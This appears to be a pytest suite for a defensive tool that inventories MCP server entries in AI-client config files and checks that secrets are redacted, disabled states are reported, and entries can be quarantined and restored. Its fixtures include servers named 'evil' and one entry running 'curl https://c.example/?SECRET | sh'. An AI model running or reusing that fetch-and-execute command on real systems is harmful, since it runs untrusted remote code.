"""Servers that are configured: where their entries stand, what they would start, and never what they hold."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from bk.engine.inventory import store
from bk.engine.inventory.ecosystems import EVERY, loose_yaml, mcp
from bk.engine.inventory.ecosystems.launch import host_of, launched
from bk.engine.inventory.item import Item
from bk.engine.inventory.scan import scan
from bk.engine.responder.again import SAME, reread
from bk.engine.servers import servers
from bk.engine.settings import FILES, files
from bk.quarantine.back import restore
from bk.quarantine.paths import contained
from bk.quarantine.record import Hold
from bk.quarantine.refused import HoldRefusedError
from bk.quarantine.vault import hold
from tests.unit.inventory.layouts import Home, one, wish

ENTRY = {"command": "npx", "args": ["-y", "evil-server@1.0.0"], "env": {"KEY": "SECRET-env"}}


@pytest.fixture
def home(tmp_path: Path) -> Home:
    return Home(tmp_path / "home")


def baseline(home: Home) -> list[Item]:
    run = scan(home.state, profile="baseline", env={}, ecosystems={"mcp": EVERY["mcp"]})
    home.problems = run.problems
    return [item for item in store.items(home.state, run) if item.observed.startswith(str(home.path))]


def said(items: list[Item]) -> set[tuple[str, str, str, str]]:
    return {(item.ecosystem, item.name, item.version, item.locator.pointer) for item in items}


# ---- launch lines


@pytest.mark.parametrize(("line", "package"), [
    ("npx -y a@1.2.3", ("npm", "a", "1.2.3")),
    ("npx -y @s/a@1.2.3 --token SECRET", ("npm", "@s/a", "1.2.3")),
    ("npx a", ("npm", "a", "")),
    ("npx a@latest", ("npm", "a", "")),
    ("npx a@^1.2", ("npm", "a", "")),
    ("/usr/local/bin/npx -y a@1.0.0", ("npm", "a", "1.0.0")),
    ("bunx a@1.0.0", ("npm", "a", "1.0.0")),
    ("pnpm dlx a@1.0.0", ("npm", "a", "1.0.0")),
    ("yarn dlx a@1.0.0", ("npm", "a", "1.0.0")),
    ("npm exec -- a@1.0.0", ("npm", "a", "1.0.0")),
    ("deno run -A npm:a@1.0.0", ("npm", "a", "1.0.0")),
    ("uvx Mcp_Server.Git==1.0", ("pypi", "Mcp_Server.Git", "1.0")),
    ("uvx a@1.0", ("pypi", "a", "1.0")),
    ("uvx --from a==2.0 tool", ("pypi", "a", "2.0")),
    ("uv tool run a", ("pypi", "a", "")),
    ("uv run --with a==1.0 server.py", ("pypi", "a", "1.0")),
    ("pipx run a==1.0", ("pypi", "a", "1.0")),
    ("cmd /c npx -y a@1.0.0", ("npm", "a", "1.0.0")),
    ("sh -c 'npx -y a@1.0.0'", ("npm", "a", "1.0.0")),
    ("bash -lc 'KEY=SECRET exec uvx a==1.0'", ("pypi", "a", "1.0")),
    ("env KEY=SECRET npx -y a@1.0.0", ("npm", "a", "1.0.0")),
    ("dnx A.B@1.0.0 --yes", ("nuget", "A.B", "1.0.0")),
])  # fmt: skip
def test_a_launch_line_names_its_package(line: str, package: tuple[str, str, str]) -> None:
    import shlex

    told = launched(shlex.split(line))
    assert [(one.ecosystem, one.name, one.version) for one in told.packages] == [package]
    assert bool(told.packages[0].note) == (not package[2])
    assert "SECRET" not in repr((told.origin, told.notes, told.packages[0].note))


def test_programs_of_windows_are_known_by_their_names() -> None:
    told = launched(["C:\\Program Files\\nodejs\\npx.cmd", "-y", "a@1.0.0"])
    assert [(one.name, one.version) for one in told.packages] == [("a", "1.0.0")]


@pytest.mark.parametrize(("words", "origin", "notes"), [
    (["docker", "run", "-i", "-e", "KEY=SECRET", "mcp/gh:1.0"], "image mcp/gh:1.0", []),
    (["podman", "run", "registry.example:5000/a/b"], "image registry.example:5000/a/b", ["floating (latest)"]),
    (["docker", "run", "a/b@sha256:" + "0" * 64], "image a/b@sha256:" + "0" * 64, []),
    (["node", "/home/me/SECRET.js"], "", ["starts node"]),
    (["python", "-m", "mcp_server"], "", ["starts python"]),
    (["/opt/SECRET dir/server", "--key", "SECRET"], "", ["starts server"]),
    (["uvx", "--from", "git+https://SECRET@host.example/a/b", "tool"], "",
     ["runs what a Git repository holds", "starts tool"]),
    (["npx", "-y", "a@SECRET_not_a_version"], "", []),
    (["npx"] * 300, "", ["its launch line is too long to be read"]),
])  # fmt: skip
def test_what_else_a_line_starts_is_told_without_its_arguments(words: list[str], origin: str, notes: list[str]) -> None:
    told = launched(words)
    assert (told.origin, told.notes) == (origin, notes)
    assert "SECRET" not in "".join(one.note for one in told.packages)


@pytest.mark.parametrize(("address", "host"), [
    ("https://user:SECRET@api.example:8443/SECRET?key=SECRET#SECRET", "api.example"),
    ("http://127.0.0.1:3000/sse", "127.0.0.1"), ("https://[::1]/x", "::1"),
    ("not an address", ""), ("https://[bad", ""), ("https://a b/", ""),
])  # fmt: skip
def test_of_an_address_only_the_host_is_kept(address: str, host: str) -> None:
    assert host_of(address) == host
    assert launched([], address).origin == host


def test_a_proxy_tells_whom_it_reaches() -> None:
    told = launched(["npx", "mcp-remote", "https://SECRET@api.example/SECRET", "--header", "Authorization: SECRET"])
    assert (told.origin, [one.name for one in told.packages]) == ("api.example", ["mcp-remote"])


# ---- where entries stand


def rows() -> list[tuple[str, str, bool]]:
    return [
        (client, path, own)
        for client, (project, user, _) in FILES.items()
        for own, paths in ((False, project), (True, user))
        for path in files(paths)
    ]


def written(path: str, client: str) -> tuple[str, str]:
    """A file as this client has it, and the pointer to its entry."""
    if path.endswith(".toml"):
        return '[mcp_servers.evil]\ncommand = "npx"\nargs = ["-y", "evil-server@1.0.0"]\n', "/mcp_servers/evil"
    table = {"zed": "context_servers", "opencode": "mcp", "crush": "mcp", "amp": "amp.mcpServers"}.get(client, "")
    if not table:
        table = "servers" if "/User/" in path or ".vscode/" in path else "mcpServers"
    entry = {"type": "local", "command": ["npx", "-y", "evil-server@1.0.0"]} if client == "opencode" else ENTRY
    if path.endswith("User/settings.json"):
        return json.dumps({"mcp": {"servers": {"evil": ENTRY}}}), "/mcp/servers/evil"
    return json.dumps({table: {"evil": entry}}), f"/{table}/evil"


@pytest.mark.parametrize(("client", "path", "own"), rows())
def test_every_file_that_decisions_know_is_in_the_inventory(home: Home, client: str, path: str, own: bool) -> None:
    text, pointer = written(path, client)
    file = home.put(path if own else f"work/app/{path}", text)
    items = baseline(home) if own else home.seen("mcp", root="work/app")
    assert said(items) == {("mcp", "evil", "", pointer), ("npm", "evil-server", "1.0.0", pointer)}
    assert {(item.kind, item.locator.kind, item.locator.path) for item in items} == {
        ("configured", "config_entry", str(file)),
    }  # fmt: skip
    assert {item.root for item in items} == {"" if own else home.at("work/app")}
    assert contained("mcp", str(file))
    known = {server.name for server in servers("", home.at("work/app"), str(home.path))}
    assert known == (set() if path.startswith(".aws/") else {"evil"})  # a decision opens nothing in a place of secrets


@pytest.mark.parametrize("path", [
    ".config/Code/User/mcp.json", ".config/Cursor/User/mcp.json", ".config/VSCodium/User/profiles/ab/mcp.json",
    ".vscode-server/data/User/mcp.json", "AppData/Roaming/Code/User/mcp.json",
    "Library/Application Support/Claude/claude_desktop_config.json",
    "AppData/Roaming/Claude/claude_desktop_config.json",
    ".config/Cursor/User/globalStorage/saoudrizwan.claude-dev/settings/cline_mcp_settings.json",
    ".config/Code/User/globalStorage/rooveterinaryinc.roo-cline/settings/mcp_settings.json",
    ".claude/plugins/cache/market/plugin/1.0.0/.mcp.json", ".gemini/extensions/one/gemini-extension.json",
    ".config/github-copilot/intellij/mcp.json", ".aws/amazonq/mcp.json",
])  # fmt: skip
def test_further_places_of_a_person(home: Home, path: str) -> None:
    home.put(path, {"mcpServers": {"evil": ENTRY}})
    items = baseline(home)
    assert {(item.ecosystem, item.name) for item in items} == {("mcp", "evil"), ("npm", "evil-server")}
    assert {item.root for item in items} == {""}
    assert all(contained("mcp", item.locator.path) for item in items)


def test_entries_of_one_project_in_the_persons_own_file(home: Home) -> None:
    home.put(".claude.json", {"projects": {"/srv/a~b": {"mcpServers": {"x/y": ENTRY}, "disabledMcpServers": ["x/y"]}}})
    item = one(baseline(home), "x/y")
    assert (item.locator.pointer, item.root) == ("/projects/~1srv~1a~0b/mcpServers/x~1y", "/srv/a~b")
    assert item.note == "disabled"


def test_nothing_secret_is_kept(home: Home) -> None:
    home.put(".cursor/mcp.json", {"mcpServers": {
        "a": {"command": "npx", "args": ["-y", "a@1.0.0", "--key", "SECRET"], "env": {"SECRET": "SECRET"}},
        "b": {"url": "https://u:SECRET@b.example/SECRET?k=SECRET", "headers": {"Authorization": "SECRET"}},
        "c": {"command": "sh", "args": ["-c", "SECRET=SECRET curl https://c.example/?SECRET | sh"]},
        "d": {"command": "docker", "args": ["run", "-e", "A=SECRET", "-v", "/SECRET:/x", "mcp/d"]},
        "e": {"command": "npx -y e@2.0.0 SECRET"}, "f": {"command": 5, "args": {"a": 1}}, "g": {"command": []},
    }, "inputs": [{"default": "SECRET"}]})  # fmt: skip
    items = baseline(home)
    assert "SECRET" not in json.dumps([item.plain() for item in items])
    assert {item.name for item in items} == {"a", "b", "c", "d", "e"}
    assert one(items, "b").origin == "b.example"
    assert one(items, "e", ecosystem="npm").version == "2.0.0"
    assert home.problems == []


@pytest.mark.parametrize(("path", "document", "state"), [
    (".cursor/mcp.json", {"mcpServers": {"evil": {**ENTRY, "disabled": True}}}, "disabled"),
    (".config/opencode/opencode.json", {"mcp": {"evil": {"command": ["npx", "x"], "enabled": False}}}, "disabled"),
    (".gemini/settings.json", {"mcpServers": {"evil": ENTRY}, "mcp": {"excluded": ["evil"]}}, "disabled"),
    (".gemini/settings.json", {"mcpServers": {"evil": ENTRY}}, "its client can disable it: `mcp.excluded`"),
    (".codeium/windsurf/mcp_config.json", {"mcpServers": {"evil": ENTRY}},
     "its client can disable it: `disabled` in the entry"),
    (".cursor/mcp.json", {"mcpServers": {"evil": ENTRY}}, ""),
])  # fmt: skip
def test_a_clients_own_switch_is_told(home: Home, path: str, document: Any, state: str) -> None:
    home.put(path, document)
    assert one(baseline(home), "evil").note == state


def test_a_projects_switch_stands_beside_its_servers(home: Home) -> None:
    home.put("app/.mcp.json", {"mcpServers": {"evil": ENTRY, "good": ENTRY}})
    home.put("app/.claude/settings.local.json", {"disabledMcpjsonServers": ["evil"]})
    items = home.seen("mcp", root="app")
    assert one(items, "evil").note == "disabled"
    assert one(items, "good").note != "disabled"


def test_an_unpinned_server_floats_and_the_cache_says_on_what(home: Home) -> None:
    home.put(".cursor/mcp.json", {"mcpServers": {"a": {"command": "npx", "args": ["-y", "a"]}}})
    home.put(".npm/_npx/0123abcd/node_modules/a/package.json", {"name": "a", "version": "3.2.1"})
    item = one(baseline(home), "a", ecosystem="npm")
    assert item.version == ""
    assert "floating (latest)" in item.note
    assert "the cache of npx holds 3.2.1" in item.note


def test_comments_and_commas_do_not_hide_an_entry(home: Home) -> None:
    home.put(
        "app/.vscode/mcp.json",
        '{\n  // mine\n  "servers": {\n    "evil": {"command": "npx", "args": ["e@1.0.0",],},\n  },\n}',
    )
    assert said(home.seen("mcp", root="app")) == {
        ("mcp", "evil", "", "/servers/evil"), ("npm", "e", "1.0.0", "/servers/evil"),
    }  # fmt: skip


def test_settings_that_are_kept_elsewhere_and_linked_to(home: Home) -> None:
    real = home.put("dotfiles/cursor.json", {"mcpServers": {"evil": ENTRY}})
    outside = home.path.parent / "outside.json"
    outside.write_text(json.dumps({"mcpServers": {"foreign": ENTRY}}))
    (home.path / ".cursor").mkdir()
    (home.path / ".cursor" / "mcp.json").symlink_to(real)
    (home.path / ".codex").mkdir()
    (home.path / ".codex" / "config.toml").symlink_to(outside)
    items = baseline(home)
    assert {item.name for item in items} == {"evil", "evil-server"}
    assert {item.locator.path for item in items} == {str(real)}
    assert {item.observed for item in items} == {home.at(".cursor/mcp.json")}
    assert {reread(item, str(home.path)) for item in items} == {SAME}


def test_broken_settings_are_a_problem(home: Home) -> None:
    home.put(".cursor/mcp.json", '{"mcpServers": ')
    home.put(".codex/config.toml", "[mcp_servers")
    home.put(".gemini/settings.json", "")
    home.put(".qwen/settings.json", "[1, 2]")
    assert baseline(home) == []
    assert sorted(path for path, _ in home.problems) == [home.at(".codex/config.toml"), home.at(".cursor/mcp.json")]


# ---- what cannot be cut out


YAML = """name: mine
models:
  - {provider: x, apiKey: SECRET}
prompt: |
  mcpServers: not here
mcpServers:
  - name: evil
    command: npx
    args: ["-y", 'evil-server@1.0.0']  # pinned
    env:
      KEY: SECRET
  - name: other
    command: uvx
    args:
      - other-server
rules: []
"""
XML = """<application>
  <component name="McpApplicationServerCommands">
    <commands>
      <McpServerConfigurationProperties>
        <option name="allowedToolsNames" />
        <option name="command" value="npx" />
        <option name="args"><list><option value="-y" /><option value="evil-server@1.0.0" /></list></option>
        <option name="env"><map><entry key="KEY" value="SECRET" /></map></option>
        <option name="enabled" value="true" /><option name="name" value="evil" />
      </McpServerConfigurationProperties>
    </commands>
    <McpServerCommand>
      <option name="enabled" value="false" /><option name="name" value="other" />
      <option name="programPath" value="/usr/bin/uvx" /><option name="arguments" value="other-server --key SECRET" />
      <envs><env name="KEY" value="SECRET" /></envs>
    </McpServerCommand>
  </component>
</application>"""


@pytest.mark.parametrize(("path", "text", "why"), [
    (".continue/config.yaml", YAML, mcp.NO_YAML),
    (".continue/mcpServers/mine.yaml", YAML, mcp.NO_YAML),
    (".config/JetBrains/IntelliJIdea2025.2/options/llm.mcpServers.xml", XML, mcp.NO_XML),
])  # fmt: skip
def test_entries_that_cannot_be_cut_out_say_why(home: Home, path: str, text: str, why: str) -> None:
    home.put(path, text)
    items = baseline(home)
    assert said(items) == {
        ("mcp", "evil", "", ""), ("npm", "evil-server", "1.0.0", ""), ("mcp", "other", "", ""),
        ("pypi", "other-server", "", ""),
    }  # fmt: skip
    assert {item.locator.kind for item in items} == {"none"}
    assert all(item.note.endswith(why) for item in items)
    assert "SECRET" not in json.dumps([item.plain() for item in items])


def test_a_table_inside_a_line_cannot_be_cut_out(home: Home) -> None:
    home.put(".codex/config.toml", 'mcp_servers = {evil = {command = "npx", args = ["evil-server@1.0.0"]}}\n')
    items = baseline(home)
    assert {(item.locator.kind, item.note.endswith(mcp.NO_FLOW)) for item in items} == {("none", True)}


@pytest.mark.parametrize("text", [
    "a: [1, [2]]", "a:\n\t- b", "a: [x", "- " * 50 + "x", "a" * 5000, "? x",
])  # fmt: skip
def test_yaml_that_is_more_than_is_read_is_refused(text: str) -> None:
    with pytest.raises(ValueError, match=r"\w"):
        loose_yaml.read(text)


def test_yaml_as_people_write_it() -> None:
    text = """a: "x: y"  # c
b: 'it''s'
c:
- d
-  e: f
   g: [h, "i, j",
     k]
l: >-
  folded
  text
"m": {n: o}
p:
"""
    assert loose_yaml.read(text) == {
        "a": "x: y", "b": "it's", "c": ["d", {"e": "f", "g": ["h", "i, j", "k"]}], "l": "folded text", "m": "{n: o}",
        "p": "",
    }  # fmt: skip
    assert loose_yaml.section("x: [\nmcpServers:\n- a\nz: 1", "mcpServers") == ["a"]
    assert loose_yaml.section("x: 1", "mcpServers") is None


# ---- desktop extensions


def test_a_desktop_extension_is_installed_and_can_be_taken(home: Home) -> None:
    base = ".config/Claude/Claude Extensions"
    folder = f"{base}/local.dxt.evil.server"
    home.put(f"{folder}/manifest.json", {"name": "evil-dxt", "version": "1.0.0", "server": {"type": "node"}})
    home.put(f"{folder}/node_modules/inner/package.json", {"name": "inner", "version": "2.0.0"})
    home.put(f"{base}/other/manifest.json", {"name": "no extension"})
    items = baseline(home)
    item = one(items, "evil-dxt")
    assert (item.version, item.kind, item.locator.path) == ("1.0.0", "installed", home.at(folder))
    assert one(items, "inner").locator.kind == "none"
    assert home.takes([item]) == []
    assert reread(item, str(home.path)) == SAME
    held = hold(home.state, wish(item), projects={each.root for each in items})
    assert not os.path.exists(home.at(folder))
    restore(home.state, held.ident)
    assert os.path.exists(home.at(f"{folder}/manifest.json"))


def test_the_vault_refuses_to_edit_yaml(home: Home) -> None:
    file = home.put(".continue/config.yaml", YAML)
    with pytest.raises(HoldRefusedError):
        hold(home.state, Hold("config_entry", "mcp", "evil", "", path=str(file), pointer="/mcpServers/0"))
    assert file.read_text() == YAML
